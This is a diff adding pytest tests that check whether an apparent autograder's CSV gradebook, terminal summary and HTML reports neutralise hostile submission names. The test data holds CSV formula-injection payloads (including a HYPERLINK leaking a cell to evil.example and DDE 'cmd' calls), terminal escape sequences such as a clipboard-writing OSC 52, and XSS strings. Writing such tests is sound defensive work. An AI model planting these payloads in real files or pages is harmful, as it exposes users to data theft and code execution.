@@ -103,6 +103,68 @@ def test_notes_about_hostile_file_names_are_printable(tmp_path):
         json.dumps(note, ensure_ascii=False).encode("utf-8")
 
 
+# ============================================================================ output (part 4)
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "@SUM(A1:A9)", "+cmd|' -C calc'!A0",
+                 "-2+3+cmd|' -C calc'!A0", "\t=1+1", " =1+1"]
+ESCAPES = ["\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x1b]52;c;Y3VybCBldmls\x07",
+           "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x9b31m", "[link=http://evil.example]x[/link]"]
+
+
+def _result(name: str, message: str = "", note: str = ""):
+    from torchdrill.results import CheckResult, Outcome, SubmissionResult
+
+    checks = (CheckResult(CHAPTER, "detach", "shares memory", Outcome.WRONG, 0.0, 2.0, True, message or "wrong"),
+              CheckResult(CHAPTER, "eval_no_grad", "value", Outcome.PASSED, 2.0, 2.0, True, ""))
+    return SubmissionResult(submission=name, checks=checks, device="cpu", lang="en", seconds=0.1,
+                            notes=(note,) if note else ())
+
+
+def test_gradebook_csv_has_no_formula_cell():
+    from torchdrill.render.gradebook import gradebook_csv
+
+    text = gradebook_csv([_result(n) for n in FORMULA_NAMES + ["alice"]],
+                         [f"{CHAPTER}.eval_no_grad", f"{CHAPTER}.detach"])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == len(FORMULA_NAMES) + 2
+    assert safe_text.formula_cells(rows) == []
+    assert sorted(r[0].lstrip("'") for r in rows[1:]) == sorted(FORMULA_NAMES + ["alice"])
+
+
+@pytest.mark.parametrize("esc", ESCAPES)
+def test_terminal_summary_prints_no_control_byte_and_no_markup(esc):
+    from rich.console import Console
+
+    from torchdrill.render.terminal import print_summary
+
+    buf = io.StringIO()
+    console = Console(file=buf, force_terminal=False, color_system=None, width=120)
+    print_summary(_result(f"name{esc}", message=f"got {esc} here", note=f"note {esc}"), console)
+    out = buf.getvalue()
+    assert not safe_text.has_control(out), repr(out)
+    assert "\x1b" not in out and "\x9b" not in out
+    if esc.startswith("[link"):
+        assert "[link=http://evil.example]" in out        # shown as text, not turned into a hyperlink
+
+
+def test_report_and_feedback_escape_hostile_names_and_fit_long_ones(tmp_path):
+    from torchdrill.render.gradescope import write_results
+    from torchdrill.report import write_report
+
+    names = ['<script>alert(1)</script>', "n" * 200 + "\x1b[2J", "=HYPERLINK(x)"]
+    for n in names:
+        safe = fsutil.safe_file_name(n)
+        write_results(_result(safe, message=f"<img src=x onerror=alert(1)> {n}"), tmp_path / f"{safe}.json")
+    files = write_report(tmp_path, None, lang="en")
+    page = files.html.read_text(encoding="utf-8")
+    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;" in page
+    assert len(files.feedback) == 2 * len(names)
+    for f in files.feedback:
+        if f.suffix == ".html":
+            assert "<img src=x" not in f.read_text(encoding="utf-8")
+    assert not [p for p in tmp_path.rglob("*.tmp")]
+
+
 # ============================================================================ names (part 3)
 
 HOSTILE_NAMES = [b"\xff\xfe-latin1-\xe9", b"n" * 255, b"\x1b]0;title\x07", b"\x1b[2J\x1b[H", b"tab\tand\nnewline",
